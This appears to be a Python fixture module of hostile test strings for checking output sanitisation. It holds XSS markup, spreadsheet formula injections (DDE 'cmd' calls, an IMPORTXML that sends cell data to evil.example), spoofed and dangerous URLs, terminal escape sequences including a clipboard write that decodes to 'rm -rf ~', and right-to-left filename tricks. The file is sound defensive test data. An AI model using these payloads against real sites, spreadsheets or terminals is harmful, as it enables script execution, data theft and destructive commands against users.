"""Texts and addresses that hacked sites and careless hands put where people will read them."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' autofocus onfocus=alert(3) x='",
    "<svg/onload=alert(4)>",
    "<svg><style><img src=x onerror=alert(5)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(6)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
    "<style>@import url(http://127.0.0.2:9/a.css);*{background:url(http://127.0.0.2:9/b)}</style>",
    "</style></title></textarea><script>alert(8)</script>",
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.2:9/refresh">',
    '<base href="http://127.0.0.2:9/"><link rel=stylesheet href=c.css>',
    '<iframe srcdoc="<script>parent.alert(9)</script>" src="http://127.0.0.2:9/frame"></iframe>',
    '<form action="http://127.0.0.2:9/form"><input autofocus onfocus=alert(10)></form>',
    '<img srcset="http://127.0.0.2:9/d.png 1x"><video poster="http://127.0.0.2:9/e.png">',
    "<details open ontoggle=alert(11)><marquee onstart=alert(12)>",
    "--><script>alert(13)</script><!--",
    "]]><script>alert(14)</script>",
    "{{ constructor.constructor('alert(15)')() }} {% for x in () %}${alert(16)}",
    "\x00<scr\x00ipt>alert(17)</scr\x00ipt>",
    "+ADw-script+AD4-alert(18)+ADw-/script+AD4-",
)
"""Markup that would act in a page which took it for its own; addresses are of this machine."""
FORMULAS = (
    '=HYPERLINK("http://evil.example/","คลิกดูผล")',
    "=cmd|'/c calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "＝1+1",
    "＋1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
)
"""What spreadsheet programs run when a cell begins with it, also behind what is not seen."""
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://www.surin.go.th/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\a.docx",
    "ms-word:ofe|u|http://evil.example/a.docx",
    "search-ms:query=x&crumb=location:\\\\evil.example",
    "http:///alert",
    "https://www.surin.go.th@evil.example/",
    "https://www.surin.go.th\\@evil.example/",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/\r\nSet-Cookie: a=b",
)
"""Where no reader may be sent by a click."""
STEERING = (
    "\x1b]0;ยึดหน้าต่างแล้ว\x07",
    "\x1b[2J\x1b[1;1Hผ่านทุกข้อ",
    "\x1b]8;;http://evil.example\x1b\\คลิก\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    '\x1bP$q"p\x1b\\',
    "\x9b31mแดง\x9b0m",
    "\x9d0;title\x9c",
    "ไม่ผ่าน\rผ่าน",
    "ลบ\x08\x08\x08ผ่าน",
    "\u202eกลับด้าน\u202c",
    "\u2066แยก\u2069",
)
"""What terminals obey: titles, colours, moves, links, the clipboard, turns of direction."""
UNHELD = ("ก\x00ข", "ก\x0bข\x0cค", "ก\x1bข", "ก\x85ข", "ก\ufffe\uffffข", "ก\ud800ข", "ก\udfffข")
"""What XML, and so Word and Excel, cannot hold."""
RIGHT_TO_LEFT = "รายงาน\u202efdp.exe"
"""Shown as if it ended in `.pdf`."""
